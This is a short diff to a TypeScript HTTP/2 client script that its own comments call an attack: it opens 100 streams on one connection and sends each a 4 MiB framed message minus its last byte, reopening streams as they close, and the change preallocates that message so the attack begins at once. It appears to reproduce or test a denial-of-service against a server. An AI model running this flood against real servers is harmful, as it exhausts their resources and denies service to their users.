@@ -3,6 +3,9 @@ import { type ClientHttp2Session, connect } from "node:http2";
 /** As many as a connection may have open. */
 const calls = 100;
 const announcedBytes = 4 * 2 ** 20;
+/** One for all, so that the attack begins at once. */
+const message = Buffer.alloc(announcedBytes + 4);
+message.writeUInt32BE(announcedBytes, 1);
 
 /**
  * Sends all but the last byte of a large message on every stream of one connection, as far as it gets credit: an attack that has to obey the
@@ -28,8 +31,6 @@ function openCall(session: ClientHttp2Session): void {
     },
     { endStream: false },
   );
-  const message = Buffer.alloc(announcedBytes + 4);
-  message.writeUInt32BE(announcedBytes, 1);
   stream.on("error", () => {}).resume();
   stream.on("close", () => openCall(session));
   stream.write(message);
